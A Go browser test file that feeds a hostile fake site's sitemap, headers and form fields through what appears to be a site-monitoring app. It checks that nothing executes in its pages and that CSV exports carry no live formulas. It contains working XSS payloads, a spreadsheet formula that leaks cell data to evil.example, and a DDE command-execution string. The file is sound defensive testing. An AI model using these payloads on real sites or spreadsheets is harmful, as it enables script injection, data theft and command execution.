package browser_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"html"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
)

// corpus are texts that run, load or break out where somebody forgets to escape them by their place.
var corpus = []string{
	`"><script>window.pwned=1</script>`,
	`'><img src=x onerror=window.pwned=1>`,
	`</script><svg onload=window.pwned=1>`,
	`</title><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
	"`${window.pwned=1}`{{.Site.Password}}{{define \"content\"}}",
	`" autofocus onfocus="window.pwned=1" x="`,
	`javascript:window.pwned=1`,
	`data:text/html,<script>window.pwned=1</script>`,
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
	"+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1",
	"\u202egnp.exe", "<!--", "]]>", "&lt;b&gt;",
}

// hostile is a site whose every text is an attack.
func hostile(t *testing.T) *httptest.Server {
	t.Helper()
	edition := 0
	mux := http.NewServeMux()
	server := httptest.NewServer(mux)
	t.Cleanup(server.Close)
	mux.HandleFunc("/robots.txt", func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintf(w, "Sitemap: %s/sitemap.xml\n", server.URL) })
	mux.HandleFunc("/sitemap.xml", func(w http.ResponseWriter, _ *http.Request) {
		edition++
		var b strings.Builder
		b.WriteString(`<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" ` +
			`xmlns:image="http://www.google.com/schemas/sitemap-image/1.1" xmlns:video="http://www.google.com/schemas/sitemap-video/1.1" ` +
			`xmlns:news="http://www.google.com/schemas/sitemap-news/0.9" xmlns:xhtml="http://www.w3.org/1999/xhtml">`)
		for i, text := range corpus {
			x := html.EscapeString(text)
			fmt.Fprintf(&b, `<url><loc>%s/%d/%s</loc><lastmod>%s</lastmod><changefreq>%s</changefreq><priority>%s</priority>`, server.URL, i, x, x, x, x)
			fmt.Fprintf(&b, `<image:image><image:loc>%s</image:loc><image:title>%s</image:title><image:caption>%s %d</image:caption></image:image>`, x, x, x, edition)
			fmt.Fprintf(&b, `<video:video><video:thumbnail_loc>%s</video:thumbnail_loc><video:title>%s</video:title><video:description>%s</video:description><video:content_loc>%s</video:content_loc></video:video>`, x, x, x, x)
			fmt.Fprintf(&b, `<news:news><news:publication><news:name>%s</news:name><news:language>%s</news:language></news:publication><news:title>%s</news:title><news:publication_date>%s</news:publication_date></news:news>`, x, x, x, x)
			fmt.Fprintf(&b, `<xhtml:link rel="alternate" hreflang="%s" href="%s"/></url>`, x, x)
			fmt.Fprintf(&b, `<url><loc>%s</loc></url>`, x) // no address at all
		}
		b.WriteString(`</urlset>`)
		w.Header().Set("Content-Type", "application/xml")
		w.Header().Set("ETag", `"><script>window.pwned=1</script>`)
		_, _ = w.Write([]byte(b.String()))
	})
	return server
}

// TestHostileTexts_DoNothing shows what an attacker publishes, sends and types on every screen.
func TestHostileTexts_DoNothing(t *testing.T) {
	base := daemon(t)
	site := hostile(t)
	post(t, base+"/api/v1/sites", map[string]any{"home": site.URL + "/", "name": corpus[0]})
	for range 2 {
		before := runs(t, base)
		post(t, base+"/api/v1/sites/1/runs", nil)
		until(t, "a run ends", func() bool { return runs(t, base) > before })
	}
	for i, text := range corpus {
		post(t, base+"/api/v1/sites/1/segments", map[string]any{"name": fmt.Sprintf("%d %s", i, text), "filter": url.Values{"contains": {text}}.Encode()})
	}
	post(t, base+"/api/v1/tokens", map[string]any{"name": corpus[0], "scopes": []string{"read"}})
	var key struct {
		TokenURL string `json:"token_url"`
	}
	decode(t, post(t, base+"/api/v1/sites/1/hook-keys", nil), &key)
	for _, text := range corpus {
		form := url.Values{"post_url": {site.URL + "/0/" + text}, "hook": {text}, "post_title": {text}, "ID": {text}}
		request, err := http.NewRequest(http.MethodPost, base+strings.TrimPrefix(key.TokenURL, base), strings.NewReader(form.Encode()))
		if err != nil {
			t.Fatal(err)
		}
		request.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		request.Header.Set("Referer", "http://evil.example/"+url.PathEscape(text))
		request.Header.Set("User-Agent", strings.Map(printable, text))
		if r, err := http.DefaultClient.Do(request); err == nil {
			_ = r.Body.Close()
		}
	}

	var list struct{ Items []struct{ URL string } }
	r, err := http.Get(base + "/api/v1/sites/1/urls?state=all")
	if err != nil {
		t.Fatal(err)
	}
	decode(t, r, &list)
	if len(list.Items) < 10 {
		t.Fatalf("%d pages are listed: the corpus does not arrive", len(list.Items))
	}
	query := func(name, text string) string { return url.Values{name: {text}}.Encode() }
	paths := []string{"/", "/sites/1", "/sites/1/urls?state=all", "/sites/1/changes", "/sites/1/runs", "/sites/1/runs/1", "/sites/1/runs/2", "/sites/1/compare?from=1", "/sites/1/hreflang",
		"/sites/1/documents", "/sites/1/documents/1", "/sites/1/findings", "/sites/1/held", "/sites/1/reports", "/sites/1/stale?by=document", "/sites/1/stale?by=path", "/sites/1/canonical", "/sites/1/deliveries", "/sites/1/expectations", "/sites/1/settings", "/settings"}
	for _, p := range list.Items {
		paths = append(paths, "/sites/1/page?"+query("url", p.URL))
	}
	for _, text := range corpus[:8] {
		paths = append(paths, "/?"+query("q", text), "/sites/1/urls?"+query("contains", text), "/sites/1/urls?"+query("segment", text), "/sites/1/changes?"+query("contains", text),
			"/sites/1/compare?"+query("from", text), "/sites/1/findings?"+query("code", text), "/login?"+query("next", text), "/sites/new?"+query("home", text))
	}
	b := newTab(t, base, true)
	for _, path := range paths {
		b.do(chromedp.Navigate(base + path))
		b.forget("422") // what was typed wrong
		b.forget("410")
		if eval[bool](b, `typeof window.pwned !== 'undefined' || document.querySelector('main iframe, main img, main script') !== null`) {
			t.Errorf("%s: a text became part of the page", path)
		}
		if bad := eval[[]string](b, `[...document.querySelectorAll('[href], [src], [action]')].map((e) => e.href || e.src || e.action).filter((a) => typeof a === 'string' && /^(javascript|data|vbscript):/i.test(a))`); len(bad) > 0 {
			t.Errorf("%s links to %q", path, bad)
		}
	}
	harmlessTables(t, b, list.Items[0].URL)
}

func printable(r rune) rune {
	if r < ' ' || r > '~' {
		return '?'
	}
	return r
}

// harmlessTables holds every CSV against what spreadsheets take for a formula.
func harmlessTables(t *testing.T, b *tab, page string) {
	t.Helper()
	for _, path := range []string{"urls?state=all&", "changes?", "history?" + url.Values{"url": {page}}.Encode() + "&", "findings?", "diff?from=1&"} {
		status, _, body := b.fetch("/api/v1/sites/1/" + path + "format=csv")
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(body), "\ufeff"))).ReadAll()
		if status != http.StatusOK || err != nil || len(rows) < 2 && !strings.HasPrefix(path, "diff") {
			t.Errorf("%s: %d, %d rows, %v", path, status, len(rows), err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !isNumber(cell) {
					t.Errorf("%s: a spreadsheet would run %q", path, cell)
				}
			}
		}
	}
}

func isNumber(text string) bool {
	var n json.Number
	return json.Unmarshal([]byte(text), &n) == nil
}
